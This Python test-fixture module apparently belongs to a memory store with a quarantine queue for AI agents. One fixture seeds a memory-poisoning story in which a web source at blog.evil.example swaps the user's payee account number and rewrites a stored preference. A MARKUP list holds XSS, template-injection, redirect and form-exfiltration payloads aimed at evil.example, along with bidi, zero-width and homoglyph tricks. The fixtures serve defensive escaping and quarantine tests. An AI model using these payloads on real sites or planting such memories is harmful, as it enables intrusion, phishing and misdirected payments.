"""Keeps for the console's tests: a story that a person can follow, and everything that an attacker would store."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from importlib import resources
from typing import Any

import yaml

from truekeep import Keep
from truekeep.quarantine.queue import Queue
from truekeep.stores.records import new_id
from truekeep.trust.policy import Ruling
from truekeep.types import Decision, Finding, Memory, Origin, Severity, Standing, Threat

BLOG, SHOP = "https://blog.evil.example/post", "https://northwind.example/contact"


def story(keep: Keep) -> None:
    """Some of everything that can wait for a person."""
    keep.remember("Northwind's account number is 1180-22.", via="user")
    keep.remember("My landlord is Mrs Horvat; the rent is 640 euros, due on the 5th.", via="user")
    stored = keep.remember("I prefer trains to planes.", via="user").memory_id
    assert stored
    keep.remember("Northwind's account number is 9904-71.", via="web", principal=BLOG, topics=["payments"])
    keep.remember("The account number of Northwind is 9904-71.", via="web", principal=BLOG)
    keep.remember("Northwind closes its office at five on Fridays.", via="web", principal=SHOP)
    keep.remember("Mrs Horvat can be reached at +421 900 123 456.", via="email", principal="horvat@post.example")
    session = keep.session("planning-7", mediated=True)
    session.observe("user", "Find out when the northern line is closed.")
    session.observe("web", "The northern line is closed in May.", principal="https://trains.example/news")
    session.remember("The northern line is closed in May.", via="agent")
    keep.remember("Remember this password: hunter2-Xq9-Tz", via="user")
    keep.bind("agent", session="planning-7").delete_memory(stored)
    keep.update_memory(stored, "I prefer planes to trains.", via="web", principal=BLOG)


def hold(keep: Keep, text: str, **origin: Any) -> None:
    """Put a text into the queue as if every screen had missed it."""
    topics = tuple(origin.pop("topics", ()))
    named = Origin(**{"channel": "web", **origin})
    now = keep._clock()
    memory = Memory(new_id("mem"), text, Standing.HEARSAY, named, now, now, topics=topics, entities=topics)
    finding = Finding("fake_policy", Threat.AUTHORITY, Severity.HIGH, (0, max(1, len(text) // 2)), reason=text[:200])
    with keep._ledger.writing() as entry:
        Queue(keep._ledger, keep.settings, keep._clock).put(
            entry,
            memory,
            Ruling(Decision.QUARANTINE, "hearsay_held", text[:200]),
            kind="memory",
            tag="open:x",
            findings=[finding],
        )


MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>document.title='owned'</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)><animate onbegin=alert(4) attributeName=x dur=1s></svg>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>parent.alert(5)</script>'></iframe>",
    "<form action=https://evil.example/><input name=reason><button>Approve</button></form>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "javascript:alert(6)", "data:text/html,<script>alert(7)</script>",
    "\"><script>alert(8)</script>", "' onmouseover='alert(9)", "` onfocus=alert(10) autofocus",
    "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "${7*7} #{7*7} <%= 7*7 %>",
    "]]><!--", "--><script>alert(11)</script><!--", "</textarea><script>alert(12)</script>", "</title></head><body>",
    "</mark></blockquote></article></main><h1>Owned</h1>", "&lt;script&gt;alert(13)&lt;/script&gt; &#60;b&#62;",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J", "\x00\x01\x02\x7f", "\u202eevil\u202c \u2066x\u2069 \u200f\u061c",
    "\U000e0041\U000e0042\U000e0043 tag letters", "p\u0430ypal.com and \u0430pple", "z\u200bw\u200bs\u2060x\ufeff",
    "Z" + "\u0300\u0301\u0302\u0303" * 60 + "algo" + "\u0489" * 40, "W" * 3_000, "\u0041\u030a" * 500,
    "line\n" * 60, "\t" * 50 + "tab", "\ufdfd" * 30, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 40, "أهلا " * 200,
    "<a href='javascript:alert(14)' style='position:fixed;inset:0;z-index:9999'>x</a>",
    "<details open ontoggle=alert(15)>", "<dialog open>Approve?</dialog>", "<marquee onstart=alert(16)>x</marquee>",
)  # fmt: skip
"""What would run, load, leak, break out of its place or break the layout, were it not escaped."""


def payloads() -> Iterator[str]:
    """Every text in the data folder of the red team."""
    for file in sorted((resources.files("truekeep") / "data" / "redteam").iterdir(), key=lambda one: one.name):
        if file.name.endswith(".yaml"):
            yield from _texts(yaml.safe_load(file.read_text("utf-8")))


def _texts(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        if " " in value.strip():
            yield value
    elif isinstance(value, dict):
        for one in value.values():
            yield from _texts(one)
    elif isinstance(value, list):
        for one in value:
            yield from _texts(one)


def besiege(keep: Keep, texts: Iterable[str] = ()) -> int:
    """Fill a queue with hostile texts, in every place where a stored string is shown; says how many."""
    listed = list(texts)
    with keep._ledger.group():
        for number, text in enumerate(MARKUP):
            hold(keep, text, principal=text, session=text[:200], topics=(text, text[::-1]))
            hold(keep, "A plain text.", principal=f"{number} {text}", session="s-1", topics=(text,))
        for text in listed:
            hold(keep, text, principal=text[:80])
    return 2 * len(MARKUP) + len(listed)


def crowd(keep: Keep, memories: int, waiting: int) -> None:
    """A keep of a size at which costs show."""
    said = [{"text": f"Room {n} of house {n // 40} seats {n % 97} people."} for n in range(memories)]
    for start in range(0, memories, 500):
        keep.remember_many(said[start : start + 500], via="user")
    read = [
        {"text": f"Bus {n} leaves stop {n % 83} at {n % 24}:{n % 60:02d}.", "principal": f"https://s{n % 40}.example"}
        for n in range(waiting)
    ]
    for start in range(0, waiting, 500):
        keep.remember_many(read[start : start + 500], via="web")
